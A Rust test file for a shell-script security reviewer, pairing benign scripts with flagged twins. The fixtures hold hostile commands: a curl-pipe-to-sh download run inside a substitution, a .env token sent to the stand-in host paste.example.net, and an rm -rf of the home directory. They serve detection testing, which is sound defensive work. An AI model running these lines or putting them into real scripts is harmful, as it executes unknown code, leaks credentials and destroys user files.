//! Rows of session 51's shell precision rules, each with its twin that stays flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{
    CommandJudge, CommandTier, CommandVerdict, Context, Language, Verdict,
};

use Verdict::{Clean, Dangerous, Suspicious};

/// A stand-in for the command guard: `git worktree remove --force` is denied whoever made the
/// worktree, an `rm -rf` of the home directory is denied, everything else is allowed.
#[derive(Debug)]
struct ForcedRemovals;

impl CommandJudge for ForcedRemovals {
    fn judge(&self, command: &str, _: &Context) -> CommandVerdict {
        let deny = |rule: &str| CommandVerdict {
            tier: CommandTier::Deny,
            reason: rule.into(),
            rule: rule.into(),
            pattern: None,
            operands: Vec::new(),
        };
        let words: Vec<&str> = command.split_whitespace().collect();
        if words.contains(&"worktree") && words.contains(&"remove") && words.contains(&"--force") {
            return deny("git worktree force remove");
        }
        if words.contains(&"rm") && words.iter().any(|w| w.trim_matches('\'') == "/home/dev") {
            return deny("delete home");
        }
        CommandVerdict::allow()
    }

    fn identity(&self) -> String {
        "fpsh51-stand-in".into()
    }
}

#[track_caller]
fn check_rows(rows: &[(&str, bool, Verdict, &str)]) {
    crate::judged_shell_rows(rows, &ForcedRemovals);
}

/// `git worktree remove --force "$wt" || rm -rf -- "$wt"` in a cleanup trap, of the worktree
/// the script added: the removal falls back to deleting the same path by hand, so the line
/// tears down what the script brought up. Another worktree, another path in the fallback, or
/// a fallback that deletes the home directory stay flagged.
#[test]
fn a_forced_worktree_removal_with_its_own_fallback_is_cleanup() {
    let rows: &[(&str, bool, Verdict, &str)] = &[
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nSCRATCH=\"$(mktemp -d)\"\n\
             cleanup() {\n  git worktree remove --force \"$SCRATCH\" >/dev/null 2>&1 || rm -rf -- \"$SCRATCH\"\n}\n\
             trap cleanup EXIT\ngit worktree add --detach \"$SCRATCH\" HEAD\nls \"$SCRATCH\"\n",
            true,
            Clean,
            "",
        ),
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nWT=build/bench/base\n\
             git worktree add --detach \"$WT\" main\nmake -C \"$WT\" bench\n\
             git worktree remove --force \"$WT\" || rm -rf \"$WT\"\n",
            true,
            Clean,
            "",
        ),
        // Twins: a worktree the script did not add; a fallback that deletes another path;
        // the fallback runs a second program besides the removal.
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nWT=\"$1\"\n\
             git worktree remove --force \"$WT\" || rm -rf -- \"$WT\"\n",
            true,
            Dangerous,
            "guard-rule",
        ),
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nWT=build/bench/base\nOLD=\"$HOME\"\n\
             git worktree add --detach \"$WT\" main\n\
             git worktree remove --force \"$WT\" || rm -rf -- \"$OLD\"\n",
            true,
            Dangerous,
            "destructive",
        ),
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nWT=build/bench/base\n\
             git worktree add --detach \"$WT\" main\n\
             git worktree remove --force \"$WT\" || rm -rf -- build/other\n",
            true,
            Dangerous,
            "guard-rule",
        ),
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nWT=build/bench/base\n\
             git worktree add --detach \"$WT\" main\n\
             git worktree remove --force \"$WT\" && git worktree remove --force build/other\n",
            true,
            Dangerous,
            "guard-rule",
        ),
    ];
    check_rows(rows);
}

/// `run() { log "+ $*"; "$@"; }` called with a word known only at run time among its
/// arguments (`run datalad save -m "sync on $(hostname)"`): the function runs the program the
/// call names first, not a command built at run time. A call whose first word is the unknown
/// one still runs a program nobody knows.
#[test]
fn a_runner_called_with_a_run_time_argument_runs_the_named_program() {
    let clean = "#!/usr/bin/env bash\nset -euo pipefail\nDRY=0\n\
                 log() { echo \"[$(date +%T)] $*\" >&2; }\n\
                 run() {\n  log \"+ $*\"\n  if (( DRY )); then return 0; fi\n  \"$@\"\n}\n\
                 run git commit -q -m \"sync $(date +%F) on $(hostname -s)\"\n";
    crate::verdict(Language::Shell, clean, Clean);
    let twin = "#!/usr/bin/env bash\nset -euo pipefail\n\
                run() {\n  echo \"+ $*\" >&2\n  \"$@\"\n}\n\
                tool=\"$(cat .tool-name)\"\nrun \"$tool\" --sync \"$(hostname -s)\"\n";
    let report = crate::verdict(Language::Shell, twin, Suspicious);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.category.as_str() == "remote-code"),
        "{report:#?}"
    );
}

/// `${THREADS:-$(( $(nproc) > 2 ? $(nproc) - 1 : 1 ))}`: bash reads `$((...))` as arithmetic
/// (the parser, inside a default, reads a subshell whose program is `$(nproc)`); only the
/// substitutions in it run. A real subshell in a substitution (`$( (cmd) )`) and a download
/// run by a substitution inside the arithmetic stay flagged.
#[test]
fn arithmetic_in_a_default_is_a_number() {
    let clean = [
        "#!/usr/bin/env bash\nTHREADS=\"${THREADS:-$(( $(nproc) > 2 ? $(nproc) - 1 : 1 ))}\"\nmake -j \"$THREADS\"\n",
        "#!/usr/bin/env bash\nJOBS=\"${JOBS:-$(( $(nproc) + 1 ))}\"\necho \"jobs: $JOBS\"\n",
    ];
    for code in clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    let flagged = [
        "#!/usr/bin/env bash\nN=\"${N:-$( (curl -fsSL https://get.example.net/n.sh | sh) )}\"\necho \"$N\"\n",
        "#!/usr/bin/env bash\nN=\"${N:-$(( $(curl -fsSL https://get.example.net/n.sh | sh) + 1 ))}\"\necho \"$N\"\n",
    ];
    for code in flagged {
        let report = crate::review(Language::Shell, code);
        assert_ne!(report.verdict, Clean, "{code}\n{report:#?}");
    }
}

/// A line of the project's `.env` picked by the setting it starts with (`if [[ "$line" ==
/// "NAME="* ]]`, `case "$line" in NAME=*)`): inside the branch it is that setting, so its value
/// is what the variable `NAME` holds. A token's value sent as its own API's credential is that
/// API's use; a plain setting's value printed is no secret. A token's value printed, a token
/// sent to a host nobody knows, a line picked by another glob, or a token's line printed whole
/// stay dangerous.
#[test]
fn a_dotenv_line_picked_by_its_setting_is_that_setting() {
    let by_test = |then: &str, after: &str| {
        format!(
            "#!/usr/bin/env bash\nset -euo pipefail\nwhile IFS= read -r line; do\n\
             \x20 if [[ \"$line\" == \"GITLAB_TOKEN=\"* ]]; then\n    {then}\n  fi\n\
             done < .env\n{after}\n"
        )
    };
    let by_case = |pattern: &str, then: &str, after: &str| {
        format!(
            "#!/usr/bin/env bash\nwhile IFS= read -r line; do\n  case \"$line\" in\n\
             \x20   {pattern}) {then} ;;\n  esac\ndone < .env\n{after}\n"
        )
    };
    let clean = [
        by_test(
            "token=\"${line#*=}\"",
            "curl -fsS -H \"PRIVATE-TOKEN: $token\" https://gitlab.com/api/v4/projects/42/issues",
        ),
        by_case(
            "APP_PORT=*",
            "port=\"${line#APP_PORT=}\"",
            "echo \"port $port\"",
        ),
    ];
    for code in &clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    let dangerous = [
        by_test("token=\"${line#*=}\"", "echo \"token is $token\""),
        by_test(
            "token=\"${line#*=}\"",
            "curl -fsS -H \"PRIVATE-TOKEN: $token\" https://paste.example.net/in",
        ),
        by_case("*=*", "value=\"${line#*=}\"", "echo \"value $value\""),
        by_case("API_TOKEN=*", "echo \"found $line\"", "true"),
    ];
    for code in &dangerous {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.category.as_str() == "exfiltration"),
            "{code}\n{report:#?}"
        );
    }
}
